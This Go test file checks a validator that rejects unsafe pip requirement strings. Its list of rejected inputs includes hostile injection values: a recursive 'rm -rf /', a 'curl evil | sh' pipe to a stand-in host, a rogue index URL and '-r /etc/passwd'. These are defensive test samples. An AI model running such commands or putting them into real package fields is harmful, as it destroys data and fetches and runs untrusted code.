package builders

import (
	"strings"
	"testing"
)

func TestPackageProblem(t *testing.T) {
	for _, ok := range []string{
		"numpy", "pandas==2.2.3", "scipy>=1.13", "requests[socks,security]>=2.31,<3", "torch (>=2.1)",
		"A.b_c-d", "urllib3===2.2.1", "black~=24.1", "pkg @ https://example.com/pkg-1.0.tar.gz",
		`tomli; python_version < "3.11"`, `pywin32>=306; sys_platform == 'win32' and platform_machine != "arm64"`,
		`uvloop; (sys_platform != "win32" and implementation_name == "cpython") or extra == "fast"`,
		`foo; "linux" in sys_platform`, `foo; python_version not in "3.8, 3.9"`,
	} {
		if p := PackageProblem(ok); p != "" {
			t.Errorf("PackageProblem(%q) = %q, want none", ok, p)
		}
	}
	for pkg, want := range map[string]string{
		"":                                       "must not be empty",
		"   ":                                    "must not be empty",
		" numpy":                                 "whitespace",
		"numpy; rm -rf /":                        "invalid environment marker",
		"numpy && curl evil | sh":                "not a PEP 508 requirement",
		"--index-url=http://evil":                `starts with "-"`,
		"-r /etc/passwd":                         `starts with "-"`,
		"-e git+https://example.com/x.git#egg=x": `starts with "-"`,
		"numpy\x00":                              "one line of printable",
		"numpy\u2028scipy":                       "one line of printable",
		"numpy\nscipy":                           "one line of printable",
		"./local/path":                           "must start with a package name",
		"git+https://example.com/x.git":          "not a PEP 508 requirement",
		`numpy; python_version >=`:               "invalid environment marker",
		`numpy; os_name == "nt" and`:             "invalid environment marker",
		"numpy==":                                "not a PEP 508 requirement",
	} {
		if p := PackageProblem(pkg); !strings.Contains(p, want) {
			t.Errorf("PackageProblem(%q) = %q, want it to say %q", pkg, p, want)
		}
	}
}

// FuzzPackageProblem: whatever the input, a package that passes can never reach pip as an option
// or carry a line break or a shell metacharacter outside quotes of a marker.
func FuzzPackageProblem(f *testing.F) {
	for _, seed := range []string{"numpy", "numpy; rm -rf /", `a; python_version < "3"`, "-r x", "a @ https://x/y", "a[b]>=1,<2"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, pkg string) {
		if PackageProblem(pkg) != "" {
			return
		}
		if strings.HasPrefix(pkg, "-") || strings.ContainsAny(pkg, "\n\r\x00") {
			t.Fatalf("PackageProblem accepted %q", pkg)
		}
		unquoted := pkg
		for _, q := range []string{`"`, `'`} {
			parts := strings.Split(unquoted, q)
			for i := 1; i < len(parts); i += 2 {
				parts[i] = ""
			}
			unquoted = strings.Join(parts, q)
		}
		if i := strings.Index(unquoted, "@"); i >= 0 {
			unquoted = unquoted[:i]
		}
		if strings.ContainsAny(unquoted, "|&`$") {
			t.Fatalf("PackageProblem accepted shell syntax in %q", pkg)
		}
	})
}
